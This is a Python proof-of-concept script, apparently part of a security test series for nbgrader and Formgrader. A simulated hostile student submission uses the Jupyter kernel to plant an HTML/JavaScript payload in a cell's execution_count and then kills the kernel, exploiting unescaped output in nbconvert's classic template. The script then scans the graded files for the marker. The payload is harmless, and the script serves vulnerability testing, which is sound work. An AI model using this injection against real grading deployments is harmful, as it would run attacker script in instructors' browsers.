"""a04: the kernel sets a cell's execution_count (nbclient copies `execution_count` from ANY iopub message's content
into the cell) to an HTML string, then dies, so that nbclient's final `cell["execution_count"] = n` is never reached.
nbconvert's classic template (which Formgrader's formgrade template and nbgrader's feedback template extend) prints
`In&nbsp;[{{ cell.execution_count|replace(None, "&nbsp;") }}]` without escaping."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from common import *
PAYLOAD = '<img src=x onerror="document.title=42">XSSMARK'
CODE = r'''
import os
_k = get_ipython().kernel
_k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": "hi\n", "execution_count": %r}, parent=_k.get_parent("shell"), ident=b"stream")
import time; time.sleep(0.5)
os._exit(1)
''' % PAYLOAD
if __name__ == "__main__":
    c = make_course("a04")
    hand_in(c, "aaron", honest())
    hand_in(c, "mallory", hostile(append={"split_model": CODE}))
    hand_in(c, "zoe", honest())
    grade(c)
    scores(c)
    leak_scan(c)
    nb = json.load(open(f"{c}/autograded/mallory/{A}/{A}.ipynb"))
    for i, cell in enumerate(nb["cells"]):
        if cell.get("cell_type") == "code":
            ec = cell.get("execution_count")
            if not isinstance(ec, int) or ec is None:
                print("AUTOGRADED cell", i, "execution_count =", repr(ec))
    for root, _, files in os.walk(c):
        for f in files:
            p = os.path.join(root, f)
            try: data = open(p, "rb").read()
            except Exception: continue
            for m in (b'<img src=x onerror', b'&lt;img src=x onerror', b'XSSMARK'):
                i = data.find(m)
                if i >= 0: print("FOUND", m, "in", p, data[max(0, i-60):i+80])
